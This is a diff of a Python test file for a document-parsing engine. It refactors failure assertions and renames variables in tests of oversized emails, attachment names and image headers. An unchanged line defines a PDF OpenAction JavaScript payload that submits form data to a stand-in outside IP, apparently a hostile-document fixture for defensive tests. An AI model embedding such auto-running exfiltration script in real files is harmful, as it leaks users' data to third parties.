@@ -5,9 +5,10 @@ from pathlib import Path
 
 import pytest
 
-from app.engines.documents import ParseFailed, iterate_attachments, parse, render
+from app.engines.documents import iterate_attachments, parse, render
 from app.engines.documents.media import IMAGE_TYPES, MAIL, PDF
 from tests.engines.documents import samples
+from tests.engines.documents.parsing import get_parse_failure
 
 _ACTIONS = (
     b"/OpenAction <</S /JavaScript /JS (this.submitForm('http://192.0.2.1/'))>>"
@@ -42,17 +43,17 @@ def test_ten_thousand_attachments(tmp_path: Path) -> None:
     data = f"Subject: Many\nContent-Type: multipart/mixed; boundary=b\n\n{parts}\n--b--\n"
     path = samples.stored(tmp_path, data.encode())
     assert parse(path, MAIL).text.startswith("Subject: Many\n\nAttachments: a0.txt, a1.txt")
-    found = list(iterate_attachments(path, MAIL))
-    assert [one.name for one in found] == [f"a{number}.txt" for number in range(1_000)]
+    names = [attachment.name for attachment in iterate_attachments(path, MAIL)]
+    assert names == [f"a{number}.txt" for number in range(1_000)]
 
 
 def test_a_name_of_four_kilobytes_in_an_email(tmp_path: Path) -> None:
     mail = EmailMessage()
     mail["Subject"] = "x" * 4096
     mail.add_attachment(b"A", "text", "plain", filename="n" * 4096 + ".txt")
-    (found,) = iterate_attachments(samples.stored(tmp_path, mail), MAIL)
-    assert len(found.name) == 255
-    assert found.name.endswith("n.txt")
+    (attachment,) = iterate_attachments(samples.stored(tmp_path, mail), MAIL)
+    assert len(attachment.name) == 255
+    assert attachment.name.endswith("n.txt")
 
 
 @pytest.mark.parametrize("media_type", ["image/png", "image/gif", "image/bmp"])
@@ -65,6 +66,4 @@ def test_an_image_of_sixty_thousand_pixels_square(tmp_path: Path, media_type: st
         "image/bmp": b"BM" + bytes(8) + (54).to_bytes(4, "little") + (40).to_bytes(4, "little")
         + (60_000).to_bytes(4, "little") * 2 + b"\1\0\x18\0" + bytes(24),
     }[media_type]  # fmt: skip
-    with pytest.raises(ParseFailed) as failed:
-        parse(samples.stored(tmp_path, head), media_type)
-    assert failed.value.code == "too_many_pixels"
+    assert get_parse_failure(tmp_path, head, media_type).code == "too_many_pixels"
